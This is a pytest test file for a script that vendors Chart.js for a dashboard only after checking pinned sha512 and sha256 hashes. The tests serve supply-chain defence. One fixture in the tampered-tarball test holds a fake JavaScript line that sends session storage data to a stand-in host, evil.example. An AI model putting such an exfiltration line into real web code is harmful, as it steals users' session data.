"""scripts/vendor_js.py (`make vendor-js`): the dashboard's Chart.js is taken from a registry
tarball only when the tarball's sha512 is the pinned one; a tampered tarball is refused and
nothing is written; a file already in place with the pinned sha256 is left alone (no network).
Fake tarballs in a folder (``--from-dir``) stand in for the registry."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from seller_api.dashboard.vendor import load_pins

ROOT = Path(__file__).resolve().parents[2]
SCRIPT = ROOT / "scripts" / "vendor_js.py"
MEMBER = "package/dist/chart.umd.min.js"
LIBRARY = b"/*! fake Chart.js for the test */ window.Chart = function () {};\n"


def make_tarball(content: bytes, member: str = MEMBER) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in ((member, content), ("package/package.json", b'{"name": "chart.js"}')):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def sri(data: bytes) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()


def write_pins(folder: Path, tarball: bytes, content: bytes = LIBRARY) -> Path:
    pins = folder / "pins.json"
    pins.write_text(
        json.dumps(
            {
                "libraries": [
                    {
                        "package": "chart.js",
                        "version": "4.6.1",
                        # Unreachable on purpose: the test must never touch the network.
                        "tarball": "http://127.0.0.1:9/chart.js-4.6.1.tgz",
                        "integrity": sri(tarball),
                        "member": MEMBER,
                        "file": "chart.umd.min.js",
                        "sha256": hashlib.sha256(content).hexdigest(),
                        "license": "MIT",
                    }
                ]
            }
        )
    )
    return pins


def run(*args: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, str(SCRIPT), *map(str, args)],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip


@pytest.fixture
def registry(tmp_path: Path) -> Path:
    """A folder standing in for the registry, holding the genuine (fake) tarball."""
    folder = tmp_path / "registry"
    folder.mkdir()
    (folder / "chart.js-4.6.1.tgz").write_bytes(make_tarball(LIBRARY))
    return folder


def test_a_tarball_with_the_pinned_sha512_is_unpacked_then_left_alone(
    tmp_path: Path, registry: Path
) -> None:
    pins = write_pins(tmp_path, (registry / "chart.js-4.6.1.tgz").read_bytes())
    dest = tmp_path / "vendor"
    first = run("--pins", pins, "--dest", dest, "--from-dir", registry)
    assert first.returncode == 0, first.stderr
    assert "sha512 checked" in first.stdout
    assert (dest / "chart.umd.min.js").read_bytes() == LIBRARY
    # Present and hash-correct: nothing is fetched, so an empty "registry" does not matter.
    empty = tmp_path / "empty"
    empty.mkdir()
    second = run("--pins", pins, "--dest", dest, "--from-dir", empty)
    assert second.returncode == 0, second.stderr
    assert "present, sha256 checked" in second.stdout


def test_a_tampered_tarball_is_refused_and_nothing_is_written(
    tmp_path: Path, registry: Path
) -> None:
    pins = write_pins(tmp_path, (registry / "chart.js-4.6.1.tgz").read_bytes())
    tampered = b"/*! fake */ fetch('https://evil.example/steal?k=' + sessionStorage.key);\n"
    (registry / "chart.js-4.6.1.tgz").write_bytes(make_tarball(tampered))
    dest = tmp_path / "vendor"
    done = run("--pins", pins, "--dest", dest, "--from-dir", registry)
    assert done.returncode == 1
    assert "refused" in done.stderr and "chart.js@4.6.1" in done.stderr
    assert not dest.exists() or not any(dest.iterdir())


def test_a_changed_vendored_file_is_replaced_by_the_pinned_one(
    tmp_path: Path, registry: Path
) -> None:
    pins = write_pins(tmp_path, (registry / "chart.js-4.6.1.tgz").read_bytes())
    dest = tmp_path / "vendor"
    dest.mkdir()
    (dest / "chart.umd.min.js").write_bytes(b"edited by hand")
    done = run("--pins", pins, "--dest", dest, "--from-dir", registry)
    assert done.returncode == 0, done.stderr
    assert (dest / "chart.umd.min.js").read_bytes() == LIBRARY


def test_a_file_that_differs_from_its_pinned_sha256_is_refused(
    tmp_path: Path, registry: Path
) -> None:
    """The tarball is the pinned one, but the file inside is not what the pin expects (a pin
    edited carelessly): refused rather than served unchecked."""
    tarball = (registry / "chart.js-4.6.1.tgz").read_bytes()
    pins = write_pins(tmp_path, tarball, content=b"something else")
    dest = tmp_path / "vendor"
    done = run("--pins", pins, "--dest", dest, "--from-dir", registry)
    assert done.returncode == 1
    assert "does not match its pinned sha256" in done.stderr
    assert not (dest / "chart.umd.min.js").exists()


def test_a_tarball_without_the_file_is_refused(tmp_path: Path, registry: Path) -> None:
    tarball = make_tarball(LIBRARY, member="package/dist/chart.js")
    (registry / "chart.js-4.6.1.tgz").write_bytes(tarball)
    pins = write_pins(tmp_path, tarball)
    done = run("--pins", pins, "--dest", tmp_path / "vendor", "--from-dir", registry)
    assert done.returncode == 1
    assert f"the tarball has no {MEMBER}" in done.stderr


def test_the_repository_pins_chart_js_4_by_npm_integrity() -> None:
    (lib,) = load_pins()
    assert (lib.package, lib.version.split(".")[0]) == ("chart.js", "4")
    assert lib.integrity.startswith("sha512-")
    assert len(base64.b64decode(lib.integrity.removeprefix("sha512-"))) == 64
    assert len(lib.sha256) == 64 and int(lib.sha256, 16) >= 0
    assert lib.tarball == f"https://registry.npmjs.org/chart.js/-/chart.js-{lib.version}.tgz"
